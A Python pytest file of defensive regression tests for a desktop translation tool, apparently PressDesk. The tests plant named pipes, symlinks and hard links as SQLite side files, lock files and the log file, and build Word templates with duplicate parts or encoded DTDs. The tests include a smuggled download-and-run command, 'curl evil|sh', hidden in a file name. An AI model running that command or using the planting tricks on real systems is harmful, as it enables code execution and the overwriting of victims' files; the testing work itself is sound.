"""Attacks of kinds the earlier rounds did not try: files planted where SQLite keeps a database's journal, log or
shared-memory index (a named pipe blocked every command for ever; a hard link had a file elsewhere overwritten; a
sparse journal of gigabytes was copied whole by every command), house templates holding two parts of one name, DTDs
in Word parts written in UTF-32 or UTF-7, `new --force` over the desk's glossary, a new project named as another's
journal, and hard links planted as the log file or a stale lock file.

Each case runs the real `pressdesk` command (or the real code) on real files built here: the input is read
correctly or refused with one line on stderr (exit 2, no traceback), and a refused input leaves every file (and
every file a planted link or hard link names) byte for byte as it was.
"""

from __future__ import annotations

import io
import logging
import os
import resource
import signal
import sqlite3
import stat
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from argos_packs import memorising_pack
from docx_packages import package, wp, wr
from test_attacks_fresh import REPO, SAMPLE_JSON, digests, refused_in_one_line, run_cli, sample_project, succeeded

from desktop_app.logging_setup import setup_logging, shutdown_logging

# -- files planted where SQLite keeps its side files -------------------------------------------------------------

VICTIM_TEXT = "a file of someone else's, which no PressDesk command may change\n" * 600


def _wal_mode(path: Path) -> None:
    conn = sqlite3.connect(path)
    try:
        assert conn.execute("pragma journal_mode=wal").fetchone()[0] == "wal"
    finally:
        conn.close()


def _plant(side: Path, kind: str, victim: Path) -> None:
    """Put `kind` where SQLite looks for `side`; `victim` is the file a link or hard link names."""
    if kind == "link-to-a-file":
        side.symlink_to(victim)
    elif kind == "link-to-nowhere":
        side.symlink_to(victim.parent / "created-through-the-link")
    elif kind == "folder":
        side.mkdir()
    elif kind == "named-pipe":
        os.mkfifo(side)
    elif kind == "hard-link":
        os.link(victim, side)


def _kinds_at(folder: Path) -> dict[str, int]:
    return {p.name: stat.S_IFMT(p.lstat().st_mode) for p in folder.iterdir()}


SIDE_KINDS = ["link-to-a-file", "link-to-nowhere", "folder", "named-pipe"]


@pytest.mark.parametrize("suffix", ["-journal", "-wal", "-shm"])
@pytest.mark.parametrize("kind", [*SIDE_KINDS, "hard-link"])
def test_a_file_planted_where_sqlite_keeps_a_projects_side_files_is_refused_and_nothing_changes(
        suffix: str, kind: str, tmp_path: Path) -> None:
    """A named pipe as the journal blocked `import` for ever; a hard link as the shared-memory index of a project
    in write-ahead mode (as another tool may leave one) had the file it names overwritten with SQLite's index;
    a link or a folder failed with "unable to open database file" or blamed a read-only folder."""
    if kind == "hard-link" and suffix == "-journal":
        pytest.skip("SQLite deletes a stale journal and writes a new file: a hard link there changes nothing")
    folder = tmp_path / "desk"
    folder.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    victim = elsewhere / "notes.txt"
    victim.write_text(VICTIM_TEXT, encoding="utf-8")
    project = sample_project(folder / "release.pressdesk")
    if suffix != "-journal":
        _wal_mode(project)
    side = Path(f"{project}{suffix}")
    _plant(side, kind, victim)
    before, kinds = digests(project, elsewhere), _kinds_at(folder)
    for argv in (["import", "--lang", "en", str(project), str(SAMPLE_JSON)], ["show", str(project)]):
        message = refused_in_one_line(run_cli(*argv))
        assert side.name in message and "move" in message, message
    assert digests(project, elsewhere) == before
    assert _kinds_at(folder) == kinds


@pytest.mark.parametrize("kind", SIDE_KINDS)
def test_a_file_planted_as_the_glossarys_journal_is_refused_and_nothing_changes(kind: str, data_dir: Path,
                                                                                tmp_path: Path) -> None:
    succeeded(run_cli("glossary", "search", "Mironov"))
    victim = tmp_path / "notes.txt"
    victim.write_text(VICTIM_TEXT, encoding="utf-8")
    _plant(data_dir / "glossary.sqlite-journal", kind, victim)
    before, kinds = digests(data_dir, tmp_path), _kinds_at(data_dir)
    for argv in (["glossary", "add", "--category", "person", "--en", "Ivan Petrov"],
                 ["glossary", "match", "--lang", "en", "Sergey Mironov met the press."]):
        message = refused_in_one_line(run_cli(*argv))
        assert "glossary.sqlite-journal" in message, message
    assert digests(data_dir, tmp_path) == before
    assert _kinds_at(data_dir) == kinds


@pytest.mark.parametrize("suffix", ["-wal", "-shm"])
@pytest.mark.parametrize("kind", [*SIDE_KINDS, "hard-link"])
def test_a_file_planted_beside_the_memory_in_write_ahead_mode_is_refused_and_nothing_changes(
        suffix: str, kind: str, data_dir: Path, tmp_path: Path) -> None:
    """The translation memory always keeps a write-ahead log: a hard link planted as its index was overwritten."""
    succeeded(run_cli("tm", "lookup", "--from", "en", "--to", "ru", "hello"))
    for stale in data_dir.glob("memory.sqlite-*"):
        stale.unlink()
    victim = tmp_path / "notes.txt"
    victim.write_text(VICTIM_TEXT, encoding="utf-8")
    side = data_dir / f"memory.sqlite{suffix}"
    _plant(side, kind, victim)
    before, kinds = digests(data_dir, tmp_path), _kinds_at(data_dir)
    message = refused_in_one_line(run_cli("tm", "lookup", "--from", "en", "--to", "ru", "hello"))
    assert side.name in message, message
    assert digests(data_dir, tmp_path) == before
    assert _kinds_at(data_dir) == kinds


def test_a_project_in_write_ahead_mode_with_its_own_side_files_still_opens_and_saves(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    _wal_mode(project)
    keep = sqlite3.connect(project)  # holds the log and index open, as another reader would
    try:
        keep.execute("select count(*) from cells").fetchone()
        assert Path(f"{project}-shm").is_file()
        succeeded(run_cli("import", "--lang", "en", str(project), str(SAMPLE_JSON)))
        succeeded(run_cli("show", str(project)))
    finally:
        keep.close()


# -- house templates with two parts of one name ------------------------------------------------------------------

def _with_second_part(tmp_path: Path, name: str, second: str) -> Path:
    """A Word package whose `second` entry (the same part name, or the same in other letters) holds other text."""
    shown, hidden = package(wp(wr("What Word shows."))), package(wp(wr("What another reader takes.")))
    out = tmp_path / name
    with zipfile.ZipFile(io.BytesIO(shown)) as first, zipfile.ZipFile(io.BytesIO(hidden)) as other, \
            zipfile.ZipFile(out, "w") as dst:
        for info in first.infolist():
            dst.writestr(info.filename, first.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it is asked to write
            dst.writestr(second, other.read("word/document.xml"))
    return out


@pytest.mark.parametrize("second", ["word/document.xml", "word/Document.xml", "WORD/styles.xml"])
def test_a_house_template_holding_two_parts_of_one_name_is_refused_and_nothing_is_written(second: str,
                                                                                           tmp_path: Path) -> None:
    """Imports refused such packages, but a template was taken: its letterhead or styles could be another part
    than the one Word shows, carried into every export."""
    project = sample_project(tmp_path / "release.pressdesk")
    template = _with_second_part(tmp_path, "house.dotx", second)
    before = digests(project, template)
    out = tmp_path / "out.docx"
    message = refused_in_one_line(run_cli("export", str(project), "--lang", "en", "--template", str(template),
                                          "-o", str(out)))
    assert "house.dotx" in message and "duplicate" in message
    assert not out.exists()
    assert digests(project, template) == before


def test_a_house_template_with_parts_of_distinct_names_still_exports(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    template = _with_second_part(tmp_path, "house.dotx", "word/document2.xml")
    out = tmp_path / "out.docx"
    succeeded(run_cli("export", str(project), "--lang", "en", "--template", str(template), "-o", str(out)))
    assert "Jinhua" in " ".join(p.text for p in docx.Document(str(out)).paragraphs)


# -- `new --force` over a database of something else ----------------------------------------------------------------

@pytest.mark.parametrize("database", ["glossary", "memory", "another-programs"])
def test_new_with_force_never_replaces_a_database_that_is_no_project(database: str, data_dir: Path,
                                                                      tmp_path: Path) -> None:
    """`new glossary.sqlite --force` replaced the desk's glossary (every term) with an empty release: any SQLite
    database passed for "an earlier project"."""
    succeeded(run_cli("glossary", "search", "Mironov"))  # creates the glossary
    succeeded(run_cli("tm", "lookup", "--from", "en", "--to", "ru", "hello"))  # and the memory
    if database == "another-programs":
        target = tmp_path / "places.sqlite"
        conn = sqlite3.connect(target)
        with conn:
            conn.execute("create table bookmarks (url text)")
            conn.execute("insert into bookmarks values ('https://example.org/')")
        conn.close()
    else:
        target = data_dir / f"{database}.sqlite"
    before = digests(target)
    message = refused_in_one_line(run_cli("new", str(target), "--force", "--title", "Fresh"))
    assert target.name in message and "not a PressDesk project" in message
    assert digests(target) == before


def test_new_with_force_still_replaces_a_database_with_no_tables(tmp_path: Path) -> None:
    target = tmp_path / "release.pressdesk"
    conn = sqlite3.connect(target)
    conn.execute("pragma user_version = 1")  # a database file with a header and no table, as a crash leaves one
    conn.close()
    succeeded(run_cli("new", str(target), "--force", "--title", "Fresh"))
    assert "Fresh" in run_cli("show", str(target)).stdout


# -- a DTD in a Word part written in an encoding whose markup is not ASCII bytes -------------------------------------

_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_ENTITY_DTD = '<!DOCTYPE w:document [<!ENTITY e "and some hidden words">]>'


def _part_in(encoding: str, dtd: bool) -> Callable[[bytes], bytes]:
    """A change of `word/document.xml` into `encoding` (declared so), with a DTD whose entity stands in the text."""
    def change(body: bytes) -> bytes:
        text = body.decode("utf-8")
        if dtd:
            text = text.replace(_DECLARATION, _DECLARATION + _ENTITY_DTD, 1).replace("Hello world.", "Hello &e; world.")
        if encoding == "utf-7":  # every "<" and "!" of the prolog as UTF-7 writes them, the rest as it is
            prolog, rest = text.split("<w:document", 1)
            prolog = prolog.replace(_DECLARATION, "").replace("<", "+ADw-").replace("!", "+ACE-")
            return _DECLARATION.replace("UTF-8", "UTF-7").encode() + prolog.encode() + b"<w:document" + rest.encode()
        text = text.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"', 1)
        return (b"\xff\xfe\x00\x00" + text.encode("utf-32-le")) if encoding == "utf-32" else text.encode(encoding)
    return change


def _document_in(tmp_path: Path, encoding: str, dtd: bool) -> Path:
    good = package(wp(wr("Hello world.")) + wp(wr("Second paragraph.")))
    out = tmp_path / f"statement-{encoding}.docx"
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            dst.writestr(info.filename, _part_in(encoding, dtd)(body) if info.filename == "word/document.xml" else body)
    return out


WIDE_OR_SHIFTED = ["utf-32", "utf-32-le", "utf-32-be", "utf-7"]


@pytest.mark.parametrize("encoding", WIDE_OR_SHIFTED)
def test_a_dtd_in_a_word_part_of_another_encoding_is_refused_and_the_project_stays(encoding: str,
                                                                                   tmp_path: Path) -> None:
    """Read as bytes, the prolog of a UTF-32 part showed no DTD: the import went on and "Hello &e; world." came in
    as "Hello" (the entity and the text after it cut), as round 7's UTF-8 DTDs did."""
    project = sample_project(tmp_path / "release.pressdesk")
    document = _document_in(tmp_path, encoding, dtd=True)
    before = digests(project)
    message = refused_in_one_line(run_cli("import", "--lang", "en", str(project), str(document)))
    assert "DTD" in message
    assert digests(project) == before


@pytest.mark.parametrize("encoding", ["utf-32", "utf-32-be"])
def test_a_house_template_with_a_dtd_in_another_encoding_is_refused_and_nothing_is_written(
        encoding: str, tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    template = _document_in(tmp_path, encoding, dtd=True)
    out = tmp_path / "out.docx"
    message = refused_in_one_line(run_cli("export", str(project), "--lang", "en", "--template", str(template),
                                          "-o", str(out)))
    assert "DTD" in message
    assert not out.exists()


@pytest.mark.parametrize("encoding", WIDE_OR_SHIFTED)
def test_a_word_part_of_another_encoding_without_a_dtd_still_imports_whole(encoding: str, tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    succeeded(run_cli("import", "--lang", "en", str(project), str(_document_in(tmp_path, encoding, dtd=False))))
    shown = run_cli("show", str(project)).stdout
    assert "Hello world." in shown and "Second paragraph." in shown


def test_a_memory_file_naming_an_encoding_nobody_knows_is_one_line(data_dir: Path, tmp_path: Path) -> None:
    tmx = tmp_path / "pairs.tmx"
    tmx.write_bytes(b'<?xml version="1.0" encoding="x-made-up"?><tmx version="1.4"><header srclang="en"/><body>'
                    b'</body></tmx>')
    succeeded(run_cli("tm", "lookup", "--from", "en", "--to", "ru", "hello"))
    before = digests(data_dir)
    refused_in_one_line(run_cli("tm", "import", str(tmx)))
    assert digests(data_dir) == before


# -- a huge journal planted beside a project ---------------------------------------------------------------------

JOURNAL_MAGIC = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"  # SQLite's rollback-journal header (its file-format page)
SPARSE_JOURNAL_BYTES = 1024**3
FILE_SIZE_CAP = 64 * 1024**2


def _run_capped(*argv: str) -> subprocess.CompletedProcess[str]:
    """The CLI with every file it writes capped at FILE_SIZE_CAP: a command that copies a gigabyte fails."""
    def cap() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write over the cap fails (EFBIG) instead of killing
        resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_CAP, FILE_SIZE_CAP))

    return subprocess.run([sys.executable, "-m", "desktop_app", *argv], capture_output=True, text=True, cwd=REPO,
                          timeout=300, preexec_fn=cap)


def _sparse_journal(project: Path, header: bytes) -> Path:
    journal = Path(f"{project}-journal")
    with open(journal, "wb") as fh:
        fh.write(header)
        fh.truncate(SPARSE_JOURNAL_BYTES)
    return journal


def _head_and_size(path: Path) -> tuple[bytes, int]:
    with open(path, "rb") as fh:
        return fh.read(4096), path.stat().st_size


@pytest.mark.skipif(sys.platform.startswith("win"), reason="file-size limits are POSIX")
def test_a_gigabyte_journal_of_zeros_is_not_copied_and_the_project_opens(tmp_path: Path) -> None:
    """A journal SQLite would never play back (its header is no journal's) was copied whole to the temporary
    folder by every command: 27 s for a 4 GB sparse file, and a 100 GB one fills the disk."""
    project = sample_project(tmp_path / "release.pressdesk")
    journal = _sparse_journal(project, b"")
    result = _run_capped("show", str(project))
    succeeded(result)
    assert "Jinhua" in result.stdout
    assert _head_and_size(journal) == (b"\0" * 4096, SPARSE_JOURNAL_BYTES)


@pytest.mark.skipif(sys.platform.startswith("win"), reason="file-size limits are POSIX")
def test_a_journal_far_larger_than_its_project_is_refused_unread_and_both_stay(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    journal = _sparse_journal(project, JOURNAL_MAGIC)
    before, journal_before = digests(project), _head_and_size(journal)
    for argv in (["show", str(project)], ["import", "--lang", "en", str(project), str(SAMPLE_JSON)]):
        message = refused_in_one_line(_run_capped(*argv))
        assert journal.name in message and "journal" in message
    assert digests(project) == before
    assert _head_and_size(journal) == journal_before


# -- the log file, hard-linked ----------------------------------------------------------------------------------------

def test_a_hard_link_planted_as_the_log_file_is_never_appended_to(tmp_path: Path) -> None:
    """A link planted as the log file was refused (round 4), but a hard link is a regular file: the window
    appended its log lines, quoting names others chose, to the file it is a second name of (a shell start-up
    file, say)."""
    data = tmp_path / "data"
    (data / "logs").mkdir(parents=True)
    victim = tmp_path / "victim.sh"
    victim.write_text("echo hello\n", encoding="utf-8")
    os.link(victim, data / "logs" / "pressdesk.log")
    setup_logging(data)
    try:
        logging.getLogger("desktop_app.test").warning("imported /tmp/a;curl evil|sh;.docx")
    finally:
        shutdown_logging()
    assert victim.read_text(encoding="utf-8") == "echo hello\n"


def test_the_log_file_of_its_own_is_still_written(tmp_path: Path) -> None:
    data = tmp_path / "data"
    path = setup_logging(data)
    try:
        logging.getLogger("desktop_app.test").warning("a line of its own")
    finally:
        shutdown_logging()
    assert "a line of its own" in path.read_text(encoding="utf-8")


# -- lock files planted as hard links or links to nowhere ------------------------------------------------------------

def test_a_hard_link_planted_as_a_projects_stale_lock_file_is_refused_and_never_written(tmp_path: Path) -> None:
    """A lock file that is no note, older than the grace period, is taken over: PressDesk wrote its note into it,
    and a hard link planted there had the file it names elsewhere cut down to that note."""
    project = sample_project(tmp_path / "release.pressdesk")
    victim = tmp_path / "elsewhere" / "notes.txt"
    victim.parent.mkdir()
    victim.write_text(VICTIM_TEXT, encoding="utf-8")
    os.utime(victim, (1_000_000_000, 1_000_000_000))  # long past any grace period
    os.link(victim, tmp_path / "release.pressdesk.lock")
    before = digests(project, victim)
    message = refused_in_one_line(run_cli("import", "--lang", "en", str(project), str(SAMPLE_JSON)))
    assert "hard link" in message
    assert digests(project, victim) == before


def test_a_link_to_nowhere_planted_as_the_packs_lock_creates_nothing(data_dir: Path, tmp_path: Path) -> None:
    """Installing or removing a pack opened packs.lock through a link planted in the data folder, creating the
    file it names wherever that is."""
    folder = data_dir / "machine-translation"
    folder.mkdir(parents=True)
    target = tmp_path / "autostart" / "planted.desktop"
    target.parent.mkdir()
    (folder / "packs.lock").symlink_to(target)
    pack = memorising_pack(tmp_path, "en", "ru")
    refused_in_one_line(run_cli("packs", "install", str(pack)))
    assert not target.exists()
    assert not (folder / "packs").exists() or not any((folder / "packs").iterdir())


# -- a new project named as another file's side file -------------------------------------------------------------------

@pytest.mark.parametrize("suffix", ["-journal", "-wal", "-shm"])
def test_a_new_project_named_as_another_projects_side_file_is_refused(suffix: str, tmp_path: Path) -> None:
    """`new release.pressdesk-journal` made a project that SQLite took for the journal of release.pressdesk: the
    next `show release.pressdesk` deleted it, and the work in it with it."""
    project = sample_project(tmp_path / "release.pressdesk")
    before = digests(tmp_path)
    side = Path(f"{project}{suffix}")
    message = refused_in_one_line(run_cli("new", str(side), "--title", "My work"))
    assert side.name in message and "another name" in message
    assert digests(tmp_path) == before


def test_a_new_project_whose_name_only_ends_like_a_word_is_created(tmp_path: Path) -> None:
    target = tmp_path / "field-journal.pressdesk"
    succeeded(run_cli("new", str(target), "--title", "Field journal"))
    assert "Field journal" in run_cli("show", str(target)).stdout
